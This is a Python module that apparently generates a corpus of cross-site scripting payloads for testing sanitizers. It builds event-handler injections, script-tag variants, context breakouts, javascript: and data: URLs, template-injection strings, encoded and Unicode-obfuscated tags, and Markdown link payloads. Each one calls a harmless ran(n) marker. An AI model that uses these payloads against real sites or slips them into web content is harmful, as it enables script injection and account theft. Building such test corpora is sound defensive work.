"""Hundreds of ways to smuggle script into a text. Each calls `ran(number)`, so that the one that ran can be named."""

from base64 import b64encode
from itertools import product

EVENTS = "error load focus toggle animationstart pointerover beforetoggle scroll wheel begin loadstart".split()
ELEMENTS = (
    "<img src=x {on}>",
    "<svg {on}>",
    "<svg><animate attributeName=x dur=1s {on}>",
    "<body {on}>",
    "<video><source src=x {on}></video>",
    "<details open {on}>",
    "<input autofocus {on}>",
    "<x tabindex=1 id=x style=animation-name:x {on}>",
    '"{on} autofocus x="',
    "' {on} autofocus x='",
    "`{on}`",
    '"><img/src="x"/{on}>',
)
TAGS = (
    "<script>{x}</script>",
    "<ScRiPt >{x}</sCrIpT>",
    "<script/src=data:text/javascript,{x}></script>",
    "<<script>{x}//<</script>",
    "<scr<script>ipt>{x}</scr</script>ipt>",
    "<svg><script>{x}</script></svg>",
    "<svg><script href='data:,{x}'/>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={x}>#x'>",
    "<svg><a xlink:href=javascript:{x}><text y=9>a</text></a>",
    "<math><mtext><style><img src=x onerror={x}></style>",
    "<math href=javascript:{x}>a</math>",
    "<iframe srcdoc='<script>parent.{x}</script>'></iframe>",
    "<iframe src=javascript:parent.{x}></iframe>",
    "<object data=javascript:{x}></object>",
    "<embed src=javascript:{x}>",
    "<a href=javascript:{x}>a</a>",
    "<form action=javascript:{x}><button>a</button></form>",
    "<button form=x formaction=javascript:{x}>a",
    "<meta http-equiv=refresh content='0;url=javascript:{x}'>",
    "<base href=javascript:{x}//>",
    "<link rel=stylesheet href='data:text/css,*{{x:expression({x})}}'>",
    "<style>*{{background:url(javascript:{x})}}</style>",
    "<div style='width:expression({x})'>",
    "<table background=javascript:{x}>",
    "<template><img src=x onerror={x}></template>",
    "<noscript><p title='</noscript><img src=x onerror={x}>'>",
    "<?xml version='1.0'?><script>{x}</script>",
    "<![CDATA[<script>{x}</script>]]>",
    "<!--<img src='--><img src=x onerror={x}//'>",
    "<xss hx-on:load={x} hx-trigger=load hx-get=/>",
    "<div hx-on::load='{x}' hx-get='/' hx-trigger='load'>",
    "<b data-action=javascript:{x} ng-app onclick={x}>b</b>",
)
ENDS = ("</title>", "</textarea>", "</style>", "</script>", "--></script>", "]]>", "'\">", "</noscript>", "*/")
WAYS_OUT = (
    *(f"{end}<script>{{x}}</script>" for end in ENDS),
    "<!--<script>{x}</script>",
    "</script><svg/onload={x}>",
    "\\u2028{x}//",
    "\\';{x}//",
    '\\";{x}//',
    "'-{x}-'",
    '"+{x}+"',
)
ADDRESSES = (
    "javascript:{x}",
    "JaVaScRiPt:{x}",
    " javascript:{x}",
    "java\tscript:{x}",
    "\x01javascript:{x}",
    "javascript&colon;{x}",
    "javascript://%0a{x}",
    "vbscript:{x}",
    "data:text/html,<script>parent.{x}</script>",
    "view-source:javascript:{x}",
    "feed:javascript:{x}",
    "blob:javascript:{x}",
)
TEMPLATES = (
    "{{{{constructor.constructor('{x}')()}}}}",
    "{{{{7191*7}}}} {x}",
    "{{% now 'Y' %}} {x}",
    "{{% include 'base.html' %}} {x}",
    "{{{{ request.user.password }}}} {x}",
    "${{{x}}}",
    "#{{{x}}}",
    "<%= {x} %>",
    "%(name)s %s {x} {{0}}",
    "[[${{{x}}}]]",
)
ESCAPED = (
    "\\u003cscript\\u003e{x}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{x}\\x3c/script\\x3e",
    "&lt;script&gt;{x}&lt;/script&gt;",
    "&#60;script&#62;{x}&#60;/script&#62;",
    "&amp;lt;script&amp;gt;{x}",
    "%3Cscript%3E{x}%3C/script%3E",
    "+ADw-script+AD4-{x}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{x}\uff1c/script\uff1e",
    "\u202e>tpircs/<{x}>tpircs<\u202c",
    "<\u200bscript>{x}</script>",
)
MARKDOWN = (
    "[a](javascript:{x})",
    "[a](JaVaScRiPt&colon;{x})",
    "[a](<javascript:{x}>)",
    "<javascript:{x}>",
    '![a](x" onerror="{x})',
    "![a](javascript:{x})",
    "[a](data:text/html,<script>{x}</script>)",
    "[a](/ \"x' onmouseover='{x}\")",
    "[a](vbscript:{x})",
    "`<img src=x onerror={x}>`",
    "[a]: javascript:{x}",
)
FORMS = (
    *(element.replace("{on}", f"on{event}={{x}}") for element, event in product(ELEMENTS, EVENTS)),
    *(TAGS + WAYS_OUT + ADDRESSES + TEMPLATES + ESCAPED + MARKDOWN),
)
EVALUATED = str(7191 * 7)  # what a page says that takes a text for a template


def payloads(kind: int, most: int = 10_000) -> list[str]:
    """Every payload of up to `most` code points; the first has the number kind * 1000: it says where it came from."""
    made = (form.format(x=f"ran({kind * 1000 + nth})") for nth, form in enumerate(FORMS))
    coded = b64encode(f"<script>parent.ran({kind * 1000 + 999})</script>".encode()).decode()
    return [text for text in (*made, f"data:text/html;base64,{coded}") if len(text) <= most]
